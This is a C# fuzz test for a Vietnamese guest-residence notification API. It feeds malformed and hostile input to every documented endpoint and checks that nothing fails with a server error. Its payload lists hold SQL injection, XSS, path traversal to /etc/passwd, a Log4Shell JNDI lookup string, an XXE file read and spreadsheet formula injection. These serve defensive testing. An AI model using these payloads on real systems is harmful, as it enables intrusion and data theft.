using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using CuTru.LuuTru.Contracts;
using CuTru.LuuTru.Server.Storage;
using CuTru.LuuTru.Tests.Infrastructure;
using CuTru.LuuTru.Tests.Intake;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Xunit.Abstractions;
using static CuTru.LuuTru.Tests.Infrastructure.TestTime;

namespace CuTru.LuuTru.Tests.Foundation;

/// <summary>The fuzz run's server: rate limits out of the way, so that every answer is about the input.</summary>
public sealed class FuzzServerFactory : LuuTruServerFactory
{
    protected override IDictionary<string, string?> Settings => new Dictionary<string, string?>
    {
        ["LuuTru:Household:PerAddressPerHour"] = "1000000",
        ["LuuTru:Household:PerPhonePerHour"] = "1000000",
        ["LuuTru:Household:ValidationsPerAddressPerHour"] = "1000000",
        ["LuuTru:Household:LookupsPerAddressPerHour"] = "1000000",
        ["LuuTru:Household:LookupsPerReceiptPerHour"] = "1000000",
    };
}

/// <summary>Hostile input to every operation of the OpenAPI document (issue 16): each case takes a valid request of the
/// operation and spoils it (a field of the wrong type, huge, with NUL, controls or bidi overrides, a date out of any sense,
/// an injection string, a missing or unknown field, a body that is not JSON, a path or query parameter gone wrong), from
/// a seeded generator. What must hold, whatever the input: no answer is a 5xx; a 400 is a problem with a code; every
/// notification answered 202 (or accepted in a batch or upload) reaches PostgreSQL, with its text visible and NFC; nothing
/// is dead-lettered. `make test` runs LUUTRU_FUZZ_CASES (default 700) cases; `make fuzz` runs many more. The seed is
/// printed with every failure (LUUTRU_FUZZ_SEED replays it).</summary>
public sealed class OpenApiFuzzTests(FuzzServerFactory server, ITestOutputHelper output) : IClassFixture<FuzzServerFactory>
{
    private const string Commune = "00070";
    private static int Cases => int.TryParse(Environment.GetEnvironmentVariable("LUUTRU_FUZZ_CASES"), out var n) && n > 0 ? n : 700;
    private static int Seed => int.TryParse(Environment.GetEnvironmentVariable("LUUTRU_FUZZ_SEED"), out var s) ? s : 20261130;

    [Fact]
    public async Task Hostile_input_to_every_operation_is_a_4xx_problem_and_every_accepted_notification_is_stored()
    {
        server.Clock.Set(Vn("2026-11-22T20:00"));
        var hotel = await server.CreateEstablishmentAsync(Commune);
        var victim = await server.CreateEstablishmentAsync(Commune, name: "Nhà nghỉ Bị Thử");
        using var establishment = server.WithApiKey((await server.CreateApiKeyAsync(hotel.Id)).ApiKey);
        using var admin = await server.SignInAsAdminAsync();
        var (someone, _) = await server.CreateOfficerAsync(Commune);
        var (_, account) = await server.CreateOfficerAsync(Commune); // for logout and password changes, nobody else's session
        using var _account = account;
        using var document = await admin.GetAsync("/openapi/v1.json");
        var doc = JsonNode.Parse(await document.Content.ReadAsStringAsync())!;

        // Every /api/ endpoint the server maps is in the document, so a new one is fuzzed without anybody listing it.
        var operations = Operations(doc).ToList();
        var mapped = EndpointMatrixTests.ApiEndpoints(server).Select(e => $"{e.Method} {Template(e.Pattern)}").ToHashSet();
        var documented = operations.Select(o => $"{o.Method} {Template(o.Path)}").ToHashSet();
        Assert.Empty(mapped.Except(documented));

        // Notifications of the hotel for the lifecycle operations to work on.
        var own = new List<Guid>();
        for (var i = 0; i < 6; i++)
        {
            var sent = await establishment.PostAsJsonAsync("/api/v1/notifications", Stays.One(Vn("2026-11-22T19:00"), $"0010900{80000 + i}"), LuuTruServerFactory.Json);
            own.Add((await sent.Content.ReadFromJsonAsync<NotificationReceiptDto>(LuuTruServerFactory.Json))!.Id);
        }
        var template = await (await establishment.GetAsync("/api/v1/notifications/upload/template.csv")).Content.ReadAsByteArrayAsync();

        var rng = new Random(Seed);
        var seeds = new Seeds(rng);
        var accepted = new HashSet<Guid>();
        var failures = new List<string>();
        var statuses = new SortedDictionary<int, int>();
        // Every other case goes to an operation that takes people's data in (most hostile text is acceptable there once
        // cleaned, and what is accepted must be stored); the rest go round every operation.
        var intake = operations.Where(o => o.Method == "POST" && (seeds.For(o) is not null || o.Path.EndsWith("/upload", StringComparison.Ordinal))
            && !o.Path.Contains("validate", StringComparison.Ordinal) && !o.Path.Contains("lookup", StringComparison.Ordinal) && !o.Path.Contains("{id"))
            .ToList();
        Assert.True(intake.Count >= 6, "the intake operations were not found in the document: " + string.Join(", ", intake.Select(o => o.Path)));
        for (var n = 0; n < Cases; n++)
        {
            var op = n % 2 == 0 ? operations[n / 2 % operations.Count] : intake[n / 2 % intake.Count];
            var client = op.Path is "/api/v1/auth/logout" or "/api/v1/auth/password" ? account
                : op.Path.StartsWith("/api/v1/notifications", StringComparison.Ordinal) || Kbtt(op) ? establishment : admin;
            var values = new Dictionary<string, string>
            {
                ["code"] = op.Path.Contains("/provinces/{code}") ? "01" : Commune,
                ["date"] = "2026-11-21",
                ["prefix"] = "lt_nothing",
                ["id"] = op.Path.StartsWith("/api/v1/notifications/", StringComparison.Ordinal) ? own[rng.Next(own.Count)].ToString()
                    : op.Path.StartsWith("/api/v1/establishments/", StringComparison.Ordinal) ? victim.Id.ToString()
                    : op.Path.StartsWith("/api/v1/users/", StringComparison.Ordinal) ? someone.Id.ToString()
                    : op.Path.Contains("dead-letters") ? "1-0" : Guid.NewGuid().ToString(),
            };
            var @case = Spoil(op, values, seeds, rng, template);
            using var request = @case.Request;
            HttpResponseMessage response;
            try { response = await client.SendAsync(request); }
            catch (Exception e) { failures.Add($"{@case.Describe}: the connection failed ({e.GetType().Name}: {e.Message})"); continue; }
            using (response)
            {
                var status = (int)response.StatusCode;
                statuses[status] = statuses.GetValueOrDefault(status) + 1;
                var text = await response.Content.ReadAsStringAsync();
                if (status >= 500) failures.Add($"{@case.Describe}: {status} {Cut(text)}");
                // A NUL in the path itself is refused by Kestrel while reading the request line, before the hub sees it:
                // a bare 400, the one answer of this suite that cannot carry a problem.
                else if (status == 400 && Kbtt(op) && !IsKbttError(response, text))
                    failures.Add($"{@case.Describe}: 400 not in KBTT's envelope with code \"400\": {Cut(text)}");
                else if (status == 400 && !Kbtt(op) && !IsProblem(response, text) && !(text.Length == 0 && request.RequestUri!.OriginalString.Contains("%00", StringComparison.Ordinal)))
                    failures.Add($"{@case.Describe}: 400 without a problem code: {Cut(text)}");
                if (status is >= 200 and < 300 && response.Content.Headers.ContentType?.MediaType == "application/json") Receipts(text, accepted);
            }
        }
        output.WriteLine($"seed {Seed}, {Cases} cases over {operations.Count} operations; answers: " +
            string.Join(", ", statuses.Select(s => $"{s.Key}×{s.Value}")) + $"; {accepted.Count} notifications accepted");
        Assert.True(failures.Count == 0, $"seed {Seed}: {failures.Count} of {Cases} cases went wrong:\n" + string.Join("\n", failures.Take(40)));

        // Every 202 reaches PostgreSQL, its text as a person can see it; nothing waits in the dead letters.
        var ids = accepted.ToList();
        var stored = await Eventually.UntilAsync(
            () => server.WithDbAsync(db => db.Notifications.AsNoTracking().Include(x => x.Guests).Where(x => ids.Contains(x.Id)).ToListAsync()),
            found => found.Count == ids.Count, TimeSpan.FromSeconds(60));
        Assert.True(stored.Count == ids.Count, $"seed {Seed}: answered accepted but not in PostgreSQL: " +
            string.Join(", ", ids.Except(stored.Select(s => s.Id)).Take(20)));
        Assert.True(ids.Count > Cases / 50, $"so few notifications were accepted ({ids.Count}) that the storing was barely tried");
        var unseen = stored.SelectMany(x => Texts(x).Concat(x.Guests.SelectMany(g => Texts(g))))
            .Where(t => !Visible(t.Text) || !t.Text.IsNormalized(NormalizationForm.FormC))
            .ToList();
        Assert.True(unseen.Count == 0, "stored text with invisible characters or not NFC: " + string.Join(" | ", unseen.Take(5).Select(t =>
            $"{t.Field} = {Escape(t.Text)} ({string.Join(" ", t.Text.EnumerateRunes().Take(12).Select(r => $"U+{r.Value:X4}"))})")));
        var dead = (await admin.GetFromJsonAsync<List<DeadLetterDto>>("/api/v1/admin/dead-letters", LuuTruServerFactory.Json))!;
        Assert.True(dead.Count == 0, "dead-lettered: " + string.Join("; ", dead.Select(d => d.Reason)));
    }

    private sealed record Operation(string Method, string Path, JsonNode? BodySchema, IReadOnlyList<(string Name, JsonNode? Schema)> Query, JsonNode Doc);

    private sealed record Case(HttpRequestMessage Request, string Describe);

    private static IEnumerable<Operation> Operations(JsonNode doc)
    {
        foreach (var (path, item) in doc["paths"]!.AsObject())
        {
            if (!path.StartsWith("/api/", StringComparison.Ordinal) && !path.StartsWith("/kbtt/", StringComparison.Ordinal)) continue;
            foreach (var (method, operation) in item!.AsObject())
            {
                if (method is "parameters" or "summary" or "description") continue;
                var query = (operation!["parameters"]?.AsArray() ?? []).Where(p => (string?)p!["in"] == "query")
                    .Select(p => ((string)p!["name"]!, p["schema"])).ToList();
                var body = operation["requestBody"]?["content"]?["application/json"]?["schema"];
                yield return new Operation(method.ToUpperInvariant(), path, body, query, doc);
            }
        }
    }

    /// <summary>A route as the document and the table both can say it: parameters without constraints, no trailing slash.</summary>
    private static string Template(string path) => System.Text.RegularExpressions.Regex.Replace(
        System.Text.RegularExpressions.Regex.Replace(path, @"\{(\w+):regex\(.*?\)\}", "{$1}"), @"\{(\w+):[^}]*\}", "{$1}").TrimEnd('/');

    // ---------------------------------------------------------------- the spoiling

    private static Case Spoil(Operation op, Dictionary<string, string> values, Seeds seeds, Random rng, byte[] template)
    {
        var path = Template(op.Path);
        var what = new List<string>();
        var roll = rng.NextDouble();
        var parameters = System.Text.RegularExpressions.Regex.Matches(path, @"\{(\w+)\}").Select(m => m.Groups[1].Value).ToList();
        foreach (var name in parameters)
        {
            var value = values.GetValueOrDefault(name, "x");
            if (roll < 0.12 && name != "id" && rng.Next(parameters.Count) == 0)
            {
                value = Pick(rng, Hostile.PathValues);
                what.Add($"{{{name}}}={Escape(value)}");
            }
            path = path.Replace("{" + name + "}", Uri.EscapeDataString(value).Replace("%2F", "/"));
        }
        var query = new List<string>();
        foreach (var (name, schema) in op.Query)
        {
            string? value = null;
            if (roll is >= 0.12 and < 0.25 && rng.Next(2) == 0)
            {
                value = Pick(rng, Hostile.QueryValues);
                what.Add($"?{name}={Escape(value)}");
            }
            if (value is not null) query.Add($"{name}={Uri.EscapeDataString(value)}");
        }
        if (path.EndsWith("/upload", StringComparison.Ordinal) && !query.Any(q => q.StartsWith("mode=", StringComparison.Ordinal)) && rng.Next(3) > 0)
            query.Add(op.Path.Contains("/communes/", StringComparison.Ordinal) ? "mode=import" : "mode=send");
        var request = new HttpRequestMessage(new HttpMethod(op.Method), path + (query.Count > 0 ? "?" + string.Join("&", query) : ""));

        if (path.EndsWith("/upload", StringComparison.Ordinal))
        {
            request.Content = UploadBody(template, rng, what);
            return new Case(request, $"{op.Method} {op.Path} [{string.Join("; ", what)}]");
        }
        var seed = seeds.For(op);
        if (seed is null && op.BodySchema is null)
        {
            if (rng.Next(8) == 0) { request.Content = new StringContent(Pick(rng, Hostile.Bodies), Encoding.UTF8, "application/json"); what.Add("an unexpected body"); }
            else if (op.Method is "POST" or "PUT" or "PATCH") request.Content = new StringContent("{}", Encoding.UTF8, "application/json");
            return new Case(request, $"{op.Method} {op.Path} [{string.Join("; ", what)}]");
        }
        var body = seed ?? Generate(op.Doc, op.BodySchema!, 0) ?? new JsonObject();
        string text;
        var raw = new Dictionary<string, string>();
        var contentType = "application/json";
        if (roll >= 0.25 && roll < 0.33)
        {
            text = Pick(rng, Hostile.Bodies);
            what.Add("body " + Escape(text.Length > 60 ? text[..60] + "…" : text));
            if (rng.Next(4) == 0) { contentType = Pick(rng, ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data"]); what.Add(contentType); }
        }
        else
        {
            if (roll >= 0.12) // parameters left as they are: spoil the body, one to four places
            {
                var places = Places(body).ToList();
                var count = rng.NextDouble() < 0.75 ? 1 : rng.Next(2, 5);
                for (var k = 0; k < count && places.Count > 0; k++)
                {
                    var (parent, key) = places[rng.Next(places.Count)];
                    var how = rng.NextDouble();
                    if (how < 0.12 && parent is JsonObject removeFrom) { removeFrom.Remove((string)key); what.Add($"no {Where(parent, key)}"); }
                    else if (how < 0.18 && parent is JsonObject addTo) { addTo["unknown" + k] = JsonValue.Create(Pick(rng, Hostile.Strings)); what.Add($"unknown field at {Where(parent, key)}"); }
                    else if (how < 0.55)
                    {
                        var fragment = Pick(rng, Hostile.Fragments);
                        var marker = $"__raw{raw.Count}__";
                        raw[marker] = fragment;
                        Set(parent, key, JsonValue.Create(marker));
                        what.Add($"{Where(parent, key)}={Escape(fragment.Length > 60 ? fragment[..60] + "…" : fragment)}");
                    }
                    else
                    {
                        var value = Pick(rng, Hostile.Strings);
                        Set(parent, key, JsonValue.Create(value));
                        what.Add($"{Where(parent, key)}=\"{Escape(value.Length > 60 ? value[..60] + "…" : value)}\"");
                    }
                    places = Places(body).ToList();
                }
            }
            text = body.ToJsonString();
            foreach (var (marker, fragment) in raw) text = text.Replace($"\"{marker}\"", fragment);
        }
        request.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(text));
        if (text.StartsWith("\u00FF", StringComparison.Ordinal)) request.Content = new ByteArrayContent([0xC3, 0x28, 0x7B, 0xFF, 0xFE]); // not UTF-8 at all
        request.Content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue(contentType) { CharSet = "utf-8" };
        if (Kbtt(op)) request.Headers.Add("X-LuuTru-Extensions", "receipts");
        if (op.Path.StartsWith("/api/v1/notifications", StringComparison.Ordinal) && op.Method == "POST" && rng.Next(10) == 0)
        {
            var key = Pick(rng, Hostile.Strings);
            if (key.All(char.IsAscii) && !key.Any(char.IsControl) && key.Length < 2000) { request.Headers.TryAddWithoutValidation("Idempotency-Key", key); what.Add("Idempotency-Key " + Escape(key)); }
        }
        return new Case(request, $"{op.Method} {op.Path} [{string.Join("; ", what)}]");
    }

    private static HttpContent UploadBody(byte[] template, Random rng, List<string> what)
    {
        var text = Encoding.UTF8.GetString(template.AsSpan(3));
        var rows = Csv.Read(text).Select(r => r.Fields.ToArray()).ToList();
        var roll = rng.NextDouble();
        byte[] bytes;
        var type = MediaTypes.CsvUtf8;
        if (roll < 0.15)
        {
            bytes = Encoding.UTF8.GetBytes(Pick(rng, Hostile.Bodies));
            what.Add("a file that is not CSV");
            if (rng.Next(2) == 0) { type = MediaTypes.Xlsx; what.Add("said to be XLSX"); }
        }
        else
        {
            for (var k = rng.Next(1, 4); k > 0; k--)
            {
                var row = rows[1 + rng.Next(rows.Count - 1)];
                var column = rng.Next(row.Length);
                row[column] = Pick(rng, Hostile.Strings);
                what.Add($"cell {rows[0][column]}=\"{Escape(row[column].Length > 60 ? row[column][..60] + "…" : row[column])}\"");
            }
            // Fresh document numbers, so that a file is not "already sent" for an earlier case's guests.
            var number = Array.IndexOf(rows[0], rows[0].FirstOrDefault(h => h.Contains("Số giấy tờ", StringComparison.Ordinal)) ?? "");
            if (number >= 0)
                foreach (var row in rows.Skip(1))
                    if (row[number].All(char.IsAsciiDigit) && row[number].Length == 12) row[number] = "0010" + rng.Next(10_000_000, 99_999_999);
            bytes = Csv.Utf8WithBom(rows);
        }
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse(type);
        return content;
    }

    /// <summary>Every place of a body that can be spoiled: (its parent, its key or index).</summary>
    private static IEnumerable<(JsonNode Parent, object Key)> Places(JsonNode node)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var (k, v) in o.ToList())
                {
                    yield return (o, k);
                    if (v is not null) foreach (var p in Places(v)) yield return p;
                }
                break;
            case JsonArray a:
                for (var i = 0; i < a.Count; i++)
                {
                    yield return (a, i);
                    if (a[i] is { } v) foreach (var p in Places(v)) yield return p;
                }
                break;
        }
    }

    private static void Set(JsonNode parent, object key, JsonNode? value)
    {
        if (parent is JsonObject o) o[(string)key] = value;
        else ((JsonArray)parent)[(int)key] = value;
    }

    private static string Where(JsonNode parent, object key) => parent.GetPath().TrimStart('$').TrimStart('.') + (key is int i ? $"[{i}]" : "." + key);

    /// <summary>A plausible value of a schema, for operations without a hand-made valid request.</summary>
    private static JsonNode? Generate(JsonNode doc, JsonNode schema, int depth)
    {
        if (schema["$ref"] is { } reference)
            schema = doc["components"]!["schemas"]![((string)reference!).Split('/')[^1]]!;
        if (depth > 6) return null;
        if (schema["enum"] is JsonArray choices && choices.Count > 0) return choices[0]?.DeepClone();
        var types = schema["type"] switch
        {
            JsonArray a => a.Select(t => (string)t!).Where(t => t != "null").ToList(),
            JsonValue v => [(string)v!],
            _ => schema["properties"] is not null ? ["object"] : [],
        };
        if (types.Count == 0 && (schema["oneOf"] ?? schema["anyOf"]) is JsonArray one)
            return one.Select(s => Generate(doc, s!, depth + 1)).FirstOrDefault(v => v is not null);
        var format = (string?)schema["format"];
        return types.FirstOrDefault() switch
        {
            "object" => new JsonObject((schema["properties"]?.AsObject() ?? []).Select(p =>
                KeyValuePair.Create(p.Key, Generate(doc, p.Value!, depth + 1)))),
            "array" => schema["items"] is { } items ? new JsonArray(Generate(doc, items, depth + 1)) : new JsonArray(),
            "integer" => JsonValue.Create(1),
            "number" => JsonValue.Create(1.5),
            "boolean" => JsonValue.Create(true),
            "string" => JsonValue.Create(format switch
            {
                "date" => "2026-11-21",
                "date-time" => "2026-11-22T19:00:00+07:00",
                "uuid" => Guid.NewGuid().ToString(),
                _ => "Thử nghiệm",
            }),
            _ => null,
        };
    }

    // ---------------------------------------------------------------- what must hold

    /// <summary>The hub's KBTT-compatible paths, which answer in KBTT's envelope instead of problems.</summary>
    private static bool Kbtt(Operation op) => op.Path.StartsWith("/kbtt/", StringComparison.Ordinal);

    private static bool IsKbttError(HttpResponseMessage response, string text)
    {
        if (response.Content.Headers.ContentType?.MediaType != "application/json") return false;
        try { return JsonNode.Parse(text) is JsonObject o && (string?)o["code"] == "400" && ((string?)o["message"])?.Length > 0; }
        catch (JsonException) { return false; }
    }

    private static bool IsProblem(HttpResponseMessage response, string text)
    {
        if (response.Content.Headers.ContentType?.MediaType != "application/problem+json") return false;
        try { return JsonNode.Parse(text)?["code"] is JsonValue code && ((string?)code)?.Length > 0; }
        catch (JsonException) { return false; }
    }

    /// <summary>The notifications an answer says were accepted: a receipt, or the accepted items of a batch or a file.</summary>
    private static void Receipts(string text, HashSet<Guid> accepted)
    {
        JsonNode? answer;
        try { answer = JsonNode.Parse(text); } catch (JsonException) { return; }
        if (answer is not JsonObject o) return;
        if (o["receiptNumber"] is not null && o["id"] is JsonValue id && Guid.TryParse((string?)id, out var g) && (string?)o["status"] == "accepted") accepted.Add(g);
        foreach (var item in o["items"]?.AsArray() ?? [])
            if ((string?)item?["status"] == "accepted" && Guid.TryParse((string?)item["id"], out var i)) accepted.Add(i);
        // A KBTT success asked for its receipts (X-LuuTru-Extensions: receipts).
        if ((string?)o["code"] == "200" && o["data"] is JsonArray kbtt)
            foreach (var item in kbtt)
                if (item?["receiptNumber"] is not null && Guid.TryParse((string?)item["id"], out var k)) accepted.Add(k);
    }

    /// <summary>No control or format character, no lone surrogate.</summary>
    private static bool Visible(string text)
    {
        for (var i = 0; i < text.Length; i++)
        {
            if (!Rune.TryGetRuneAt(text, i, out var rune)) return false;
            if (Rune.GetUnicodeCategory(rune) is UnicodeCategory.Control or UnicodeCategory.Format) return false;
            if (rune.Utf16SequenceLength == 2) i++;
        }
        return true;
    }

    private static IEnumerable<(string Field, string Text)> Texts(object entity) =>
        entity.GetType().GetProperties().Where(p => p.PropertyType == typeof(string))
            .Select(p => (p.Name, Text: (string?)p.GetValue(entity))).Where(t => t.Text is not null).Select(t => (t.Name, t.Text!));

    private static T Pick<T>(Random rng, IReadOnlyList<T> from) => from[rng.Next(from.Count)];

    private static string Cut(string text) => Escape(text.Length > 300 ? text[..300] + "…" : text);

    private static string Escape(string text) => string.Concat(text.Select(c =>
        char.IsControl(c) || char.GetUnicodeCategory(c) is UnicodeCategory.Format or UnicodeCategory.Surrogate ? $"\\u{(int)c:X4}" : c.ToString()));

    /// <summary>Valid requests of the operations that take people's data, fresh document numbers each time, so that a
    /// spoiled field is the only thing wrong and what is still acceptable is accepted and stored.</summary>
    private sealed class Seeds(Random rng)
    {
        private int next = 10_000;
        private string Id() => $"0010910{next++:D5}";

        public JsonNode? For(Operation op)
        {
            var arrival = Vn("2026-11-22T19:00");
            GuestDto Citizen() => new("Trần Văn Thử", new DateOnly(1990, 3, 4), Gender.Male, new DocumentDto(DocumentType.PersonalId, Id()),
                Phone: "0912345678", PermanentAddress: "Số 1 phố Huế");
            GuestDto Foreigner() => new("Kim Min Jun", new DateOnly(1988, 5, 6), Gender.Male, new DocumentDto(DocumentType.Passport, "M" + Id()[4..]), "KOR",
                Foreign: new ForeignDetailsDto("DL" + next, new DateOnly(2027, 1, 1), new DateOnly(2026, 11, 20), "Nội Bài"));
            var stay = new StayDto(arrival, arrival.AddDays(2), StayReason.Tourism, Room: "301");
            var notification = new NotificationRequest(stay, rng.Next(2) == 0 ? [Citizen()] : [Citizen(), Foreigner()], "BK-" + next);
            object? body = (op.Method, Template(op.Path)) switch
            {
                ("POST", "/api/v1/notifications") or ("POST", "/api/v1/notifications/validate") => notification,
                ("POST", "/api/v1/notifications/batch") or ("POST", "/api/v1/notifications/batch/validate") =>
                    new BatchRequest([notification, new NotificationRequest(stay with { Room = "302" }, [Citizen()])]),
                ("POST", "/api/v1/household-notifications") or ("POST", "/api/v1/household-notifications/validate") =>
                    new HouseholdNotificationRequest(new HostDto("Lê Thị Chủ", "0912 600 001", new DocumentDto(DocumentType.PersonalId, Id())),
                        stay with { Room = null, Reason = StayReason.VisitingFamily, Address = "Số 7 ngõ 5 phố Huế", CommuneCode = Commune }, [Citizen()]),
                ("POST", "/api/v1/communes/{code}/notifications") or ("POST", "/api/v1/communes/{code}/notifications/validate") =>
                    new OfficerNotificationRequest(null, new HostDto("Phạm Văn Chủ", "0912 600 002", new DocumentDto(DocumentType.PersonalId, Id())),
                        stay with { Room = null, Reason = StayReason.VisitingFamily, Address = "Số 9 ngõ 5 phố Huế" }, [Citizen()], "phone",
                        ReceivedAt: Vn("2026-11-22T19:30")),
                ("PATCH", "/api/v1/notifications/{id}") => new NotificationPatch(new StayPatch(Room: "405"),
                    [new GuestPatch(0, FullName: "Trần Văn Sửa", Phone: "0912000111")], "Khách báo sai số phòng"),
                ("POST", "/api/v1/notifications/{id}/extend") => new ExtendRequest(Vn("2026-11-26T12:00")),
                ("POST", "/api/v1/notifications/{id}/checkout") => new CheckoutRequest(Vn("2026-11-22T19:50")),
                ("POST", "/api/v1/notifications/{id}/cancel") => new CancelRequest("Khách không đến"),
                ("POST", "/api/v1/receipts/lookup") => new ReceiptLookupRequest("00070-261122-0001", "0912 600 001"),
                ("POST", "/kbtt/client-service/kbtt-vn/kbtt-3th") => new[]
                {
                    new KbttVietnameseGuest { HoTen = "Trần Văn Thử", GioiTinh = "M", NgayThangNamSinhStr = "1990-03-04", LoaiGiayTo = 1, SoGiayTo = Id(),
                        NgayDenCsltStr = "2026-11-22 19:00:00", NgayDiDuKienStr = "2026-11-24 12:00:00", SoPhong = "30" + rng.Next(10), LyDoCuTru = 1 + rng.Next(19),
                        NoiCuTru = 1, MaTT = "101", MaPX = "101900073", DiaChi = "Số 1 phố Huế", SoDienThoai = "0912345678" },
                },
                ("POST", "/kbtt/client-service/kbtt/kbtt-3th") => new[]
                {
                    new KbttForeignGuest { HoTen = "KIM MIN JUN", QuocTich = rng.Next(2) == 0 ? "KOR" : "D", SoHoChieu = "M" + Id()[4..], GioiTinh = "M",
                        LoaiNgayThangNamSinh = "D", NgayThangNamSinhStr = "1988-05-06", NgayDenCsltStr = "2026-11-22 19:00:00",
                        NgayDiDuKienStr = "2026-11-24 12:00:00", SoPhong = "50" + rng.Next(10), ThoiHanTamTruStr = "2027-01-01 00:00:00" },
                },
                ("POST", "/kbtt/client-service/kbtt-vn/kbtt-3th/doi-ngay-tra-phong") or ("POST", "/kbtt/client-service/kbtt/kbtt-3th/doi-ngay-tra-phong") =>
                    new[] { new KbttDepartureChange { Loai = "GH", SoGiayTo = "001090080001", LoaiGiayTo = 1, ThoiGianStr = "2026-11-27 12:00:00" } },
                _ => null,
            };
            return body is null ? null : JsonSerializer.SerializeToNode(body, body.GetType(), LuuTruServerFactory.Json);
        }
    }

    private static class Hostile
    {
        public static readonly string[] Strings =
        [
            "", " ", "\u0000", "a\u0000b", "Nguy\u200Bễn Văn \u202EẨn\uFEFF", "\u202Egnp.exe", "\u00AD\u2060\u180E", "\u0007\u001B[31mđỏ",
            "\r\n\t", "Nguye\u0302\u0303n Va\u0306n", "' OR '1'='1' --", "\"; DROP TABLE notifications; --", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://x.example\",\"x\")", "+1+1", "@SUM(1)", "-2+3", "../../../../etc/passwd",
            "%00", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://x.example/a}", "9999-12-31", "0001-01-01", "2026-02-30", "1e400", "NaN", "-1",
            "null", "true", "😀👨‍👩‍👧", "مرحبا بالعالم", "김민준", "e" + new string('\u0301', 3000), new string('x', 300),
            new string('y', 70_000), "0912345678", "+84912345678", "001090012345", "VNM", "KOR", "xx", "tourism", "passport",
            "2026-11-22T19:00", "2026-11-22T25:00", "\uFFFE\uFFFF", "\u0085\u2028\u2029",
        ];

        /// <summary>JSON text put in place of a value as it is: wrong types, numbers beyond any type, broken escapes,
        /// dates out of any sense, deep nesting.</summary>
        public static readonly string[] Fragments =
        [
            "null", "true", "false", "0", "-1", "1.5", "1e400", "-1e400", "99999999999999999999999999", "-0", "[]", "{}", "[null]",
            "[{}]", "[1,2,3]", "\"\\ud800\"", "\"\\udc00x\"", "\"a\\u0000b\"", "\"\\u202e\\u200b\"",
            new string('[', 300) + new string(']', 300), "{\"__proto__\":{\"x\":1}}", "{\"$type\":\"System.IO.FileInfo\"}",
            "\"2026-11-22T20:00:00+25:00\"", "\"9999-12-31T23:59:59Z\"", "\"0001-01-01T00:00:00Z\"", "\"+002026-11-22\"",
            "\"1899-12-31\"", "\"2200-01-01\"", "\"-0001-01-01\"", "\"2026-11-22\"", "\"2026-11-21T08:00:00+07:00\"",
            "\"2030-01-01T00:00:00+07:00\"", "\"1970-01-01T00:00:00Z\"", "2147483648", "-2147483649", "1000000",
            "[" + string.Join(",", Enumerable.Repeat("{}", 600)) + "]",
        ];

        /// <summary>Whole bodies that are not the JSON asked for. One starting with U+00FF stands for bytes that are not UTF-8.</summary>
        public static readonly string[] Bodies =
        [
            "", "{", "}", "not json", "\u0000", "[]", "null", "\"text\"", "42", "{\"a\":1}{\"b\":2}", "{\"stay\":1,\"stay\":2}",
            "\uFEFF{}", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            new string('[', 10_000), new string('{', 5_000), "{\"notifications\": [" + string.Join(",", Enumerable.Repeat("null", 2000)) + "]}",
            "\u00FF", "{'single': 'quotes'}", "{\"a\": NaN}", "{\"a\": 1,}", "// comment\n{}",
            "Họ và tên,Ngày sinh\r\n=cmd|' /C calc'!A0,01/01/1990", "PK\u0003\u0004garbage",
        ];

        public static readonly string[] PathValues =
        [
            "..", "../..", "%00", "\u0000", "' OR 1=1 --", new string('9', 300), "٠١٢٣٤", "00070\u200B", "0007O", "-1", "9999-12-31",
            "2026-02-30", "0000-00-00", "2026-11-21.exe", "<script>", "ａｂｃ", " ", "%2e%2e",
        ];

        public static readonly string[] QueryValues =
        [
            "", "-1", "0", "2147483648", "99999999999999999999", "1e400", "NaN", "9999-12-31", "0001-01-01", "2026-02-30",
            "\u0000", "a\u0000b", "' OR 1=1 --", "<script>", new string('q', 5000), "\u202E", "true", "[]", "{}",
            "2026-11-22T25:00", "nguyen van an", "001", "%", "_", "\\", "*",
        ];
    }
}
